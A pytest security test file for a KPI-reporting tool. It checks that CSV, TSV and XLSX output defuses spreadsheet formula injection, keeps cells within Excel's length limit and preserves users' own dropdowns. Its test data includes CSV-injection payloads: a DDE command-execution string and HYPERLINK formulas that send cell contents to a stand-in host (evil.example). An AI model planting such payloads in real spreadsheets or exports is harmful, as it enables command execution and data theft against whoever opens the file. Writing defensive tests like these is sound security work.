"""What kpi_excel writes is safe to open: CSV/TSV text never runs as a formula (OWASP),
no cell is longer than Excel accepts (file, desktop and web alike), and the officer's own
dropdowns are never covered by ours."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
from pathlib import Path

import pytest

from kpi_excel.cli import main
from kpi_excel.core.plan import CUT_MARK
from kpi_excel.ooxml.cell_content import EXCEL_CELL_LIMIT
from kpi_excel.ooxml import XlsxPackage
from tests.security.hostile import example_report

os.environ.setdefault("XLWINGS_LICENSE_KEY", "noncommercial")

HOSTILE_TEXTS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "+1+1",
                 "-2+3", "\t=1+1", "\r=1+1", "=1"]
PLAIN = ["-0.07", "+5", "-1,234.5", "12%", "-", "Re-referrals", "3% (420)"]


def _read(text: str, delimiter: str, rows_expected: int = len(HOSTILE_TEXTS) + 1) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    # Every text is quoted, so a carriage return inside one does not start a row of its own,
    # not even for a reader that takes a lone CR for a line break.
    split = list(csv.reader(io.StringIO(text.replace("\r", "\n"), newline=""), delimiter=delimiter))
    assert len(split) == len(rows) == rows_expected and {len(r) for r in split} == {len(rows[0])}
    return rows


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_defused(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell not in PLAIN and not _number(cell):
            pytest.fail(f"a cell a spreadsheet would run: {cell!r}")
    for text in HOSTILE_TEXTS:
        assert "'" + text in cells, text


@pytest.fixture
def table(tmp_path: Path) -> Path:
    path = tmp_path / "table.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Indicator", "Polarity", "Previous Value", "Latest Value", "Target", "Note", "=Header"])
        for i, text in enumerate(HOSTILE_TEXTS):
            writer.writerow([text, "High = Good", "-0.07", PLAIN[i % len(PLAIN)], "+5", text, "x"])
    return path


@pytest.mark.parametrize("suffix", [".csv", ".tsv", "stdout"])
def test_file_rate_defuses_formula_text_and_keeps_numbers(runner, table: Path, tmp_path: Path, suffix: str) -> None:  # type: ignore[no-untyped-def]
    if suffix == "stdout":
        result = runner.invoke(main, ["rate", str(table)])
        text, delimiter = result.stdout, ","
    else:
        out = tmp_path / f"rated{suffix}"
        result = runner.invoke(main, ["rate", str(table), "-o", str(out)])
        text, delimiter = out.read_bytes().decode("utf-8-sig"), "\t" if suffix == ".tsv" else ","
    assert result.exit_code == 0, result.output
    rows = _read(text, delimiter)
    assert rows[0][6] == "'=Header"
    _check_defused(rows)
    assert {row[2] for row in rows[1:]} == {"-0.07"} and {row[4] for row in rows[1:]} == {"+5"}
    assert {row[3] for row in rows[1:]} <= set(PLAIN)  # plain numbers and a lone '-' untouched


def test_file_rate_xlsx_output_keeps_text_as_text(runner, table: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "rated.xlsx"
    assert runner.invoke(main, ["rate", str(table), "-o", str(out)]).exit_code == 0
    values = XlsxPackage.open(out).read_sheet("Rated")
    assert values.value(2, 1) == HOSTILE_TEXTS[0] and not values.formulas  # as typed, and never a formula


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_file_benchmark_defuses_formula_text(runner, tmp_path: Path, suffix: str) -> None:  # type: ignore[no-untyped-def]
    code = "=HYPERLINK(\"http://evil.example\",\"x\")"
    data = tmp_path / "values.csv"
    with data.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Code", "Area", "Period", "Value"])
        for area, value in (("Derbyshire", -0.5), ("Leicestershire", 3), ("Kent", 2)):
            writer.writerow([code, area, "2023/24", value])
    dictionary = tmp_path / "dict.csv"
    with dictionary.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Code", "Polarity", "Measure"], [code, "High = Good", "@SUM(1)"]])
    out = tmp_path / f"bench{suffix}"
    result = runner.invoke(main, ["benchmark", str(data), "--dictionary", str(dictionary), "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = _read(out.read_bytes().decode("utf-8-sig"), "\t" if suffix == ".tsv" else ",", rows_expected=4)
    cells = [cell for row in rows for cell in row]
    assert "'" + code in cells and code not in cells
    assert not any(c[:1] in "=+@" for c in cells if c)
    header = rows[0]
    values = [row[header.index("value")] for row in rows[1:]]
    assert "-0.5" in values  # a number stays a number


# ---- Excel's 32,767-character cell limit (item 8) --------------------------------------------------

# Long, but within what Excel holds in a cell: a longer one is refused on read (issue 17, item 5).
LONG = 32_760


def _long_report(path: Path) -> Path:
    example_report(path)
    package = XlsxPackage.open(path)
    values = package.read_sheet("KPIs")
    header = {values.value(1, c): c for c in range(1, values.last_col + 1)}
    code = next(values.value(r, header["Code"]) for r in range(2, values.last_row + 1)
                if values.value(r, header["Benchmark Code"]))
    row = next(r for r in range(2, values.last_row + 1) if values.value(r, header["Code"]) == code)
    package.set_cells("KPIs", {(row, header["Indicator"]): "N" * LONG, (row, header["RAG Override"]): "Green",
                               (row, header["Override Reason"]): "R" * LONG})
    package.save()
    return path


def _texts(values) -> list[str]:  # type: ignore[no-untyped-def]
    return [v for _, _, v, _ in values.cells() if isinstance(v, str)]


def test_file_no_written_cell_is_longer_than_excel_takes(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    workbook = _long_report(tmp_path / "report.xlsx")
    result = runner.invoke(main, ["refresh", str(workbook)])
    assert result.exit_code == 0, result.output
    package = XlsxPackage.open(workbook)
    kpis = package.read_sheet("KPIs")
    header = {kpis.value(1, c): c for c in range(1, kpis.last_col + 1)}
    row = next(r for r in range(2, kpis.last_row + 1) if kpis.value(r, header["Override Reason"]))
    reason = kpis.value(row, header["RAG Reason"])
    assert len(reason) == EXCEL_CELL_LIMIT and reason.endswith(CUT_MARK) and reason.startswith("Green")
    checks = kpis.value(row, header["Checks"])
    assert "Override Reason: makes the RAG Reason" in checks
    for sheet in ("Benchmark", "Log", "RAG key", "Summary", "KPI history"):
        assert all(len(t) <= EXCEL_CELL_LIMIT for t in _texts(package.read_sheet(sheet))), sheet
    # The officer's own input cells keep their length (kpi_excel never writes over them); the
    # reason built from them is the one cut to the limit.
    assert sorted(len(t) for t in _texts(kpis) if len(t) >= LONG) == [LONG, LONG, EXCEL_CELL_LIMIT]
    assert all(len(t) <= EXCEL_CELL_LIMIT for t in _texts(kpis))


def test_file_the_web_door_sends_no_cell_longer_than_excel_takes(tmp_path: Path) -> None:
    os.environ["XLWINGS_ON_SERVER"] = "true"
    import xlwings as xw

    from tests.addin.payload import web_request
    from kpi_excel.addin.server.sheet_data import data_block
    from kpi_excel.addin.book_door import plan_book
    from kpi_excel.workbook.web_batch import web_batch

    workbook = _long_report(tmp_path / "report.xlsx")
    request = web_request(workbook)
    book = xw.Book(json=request)
    sheets, plan = plan_book(book, door="web", user="tester", now=dt.datetime(2026, 11, 23, 9, 30), policy=None,
                             data=data_block(request["args"][0]))
    batch = web_batch(book, plan, sheets.kpis, message={"text": "", "title": "", "mode": "info"})
    blocks = batch["kpis"]["blocks"] + [b for part in batch["sheets"] for b in part["blocks"]]
    sent = [v for block in blocks for row in block["values"] for v in row if isinstance(v, str)]
    sent += [v for v in batch["log"]["values"] if isinstance(v, str)]
    assert sent and max(len(v) for v in sent) <= EXCEL_CELL_LIMIT
    assert any(v.endswith(CUT_MARK) for v in sent)


# ---- the officer's dropdowns win (item 11) ----------------------------------------------------------


def _with_own_polarity_dropdown(path: Path) -> Path:
    """A report whose officer added their own Polarity dropdown on E2:E201 (E is Polarity)."""
    example_report(path)
    package = XlsxPackage.open(path)
    values = package.read_sheet("KPIs")
    assert values.value(1, 5) == "Polarity"
    from lxml import etree

    from kpi_excel.ooxml.xmlutil import WORKSHEET_ORDER, find_or_create, main as ns

    info = package.sheet("KPIs")
    root = package.opc.xml(info.part)
    # The template's own dropdowns are kpi_excel's: drop them all, as an officer's file would not have them...
    container = root.find(ns("dataValidations"))
    if container is not None:
        root.remove(container)
    container = find_or_create(root, "dataValidations", WORKSHEET_ORDER)
    mine = etree.SubElement(container, ns("dataValidation"), type="list", allowBlank="1", sqref="E2:E201")
    etree.SubElement(mine, ns("formula1")).text = '"Higher is better,Lower is better,Neither"'
    container.set("count", "1")
    package.opc.mark_dirty(info.part)
    package.save()
    return path


def _validations(path: Path) -> list[tuple[str, str]]:
    from kpi_excel.ooxml.xmlutil import main as ns

    package = XlsxPackage.open(path)
    root = package.opc.xml(package.sheet("KPIs").part)
    return [(el.get("sqref"), el.findtext(ns("formula1"))) for el in root.iter(ns("dataValidation"))]


def test_file_the_officers_own_dropdown_wins_over_ours(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from kpi_excel.ooxml.managed import sqrefs_overlap

    workbook = _with_own_polarity_dropdown(tmp_path / "report.xlsx")
    for _ in range(2):  # and again: a second refresh changes nothing about it
        assert runner.invoke(main, ["refresh", str(workbook)]).exit_code == 0
        found = _validations(workbook)
        assert ("E2:E201", '"Higher is better,Lower is better,Neither"') in found
        others = [sqref for sqref, _ in found if sqref != "E2:E201"]
        assert others, "kpi_excel's other dropdowns are still added"
        assert not any(sqrefs_overlap(sqref, "E2:E201") for sqref in others), found


def test_file_the_xlwings_writer_never_touches_dropdowns(tmp_path: Path) -> None:
    """The desktop and web writer adds no dropdowns (the remote engine's setDataValidationList
    exists, and is never sent), so an officer's own can never be covered or deleted there."""
    os.environ["XLWINGS_ON_SERVER"] = "true"
    import xlwings as xw

    from tests.addin.payload import REFRESH_SHEETS, book_payload
    from kpi_excel.addin.book_door import refresh_book

    workbook = _with_own_polarity_dropdown(tmp_path / "report.xlsx")
    book = xw.Book(json=book_payload(workbook, include=REFRESH_SHEETS))
    refresh_book(book, door="web", user="tester", now=dt.datetime(2026, 11, 23, 9, 30))
    funcs = {action["func"] for action in book.json()["actions"]}
    assert "setValues" in funcs and not {f for f in funcs if "DataValidation" in f}
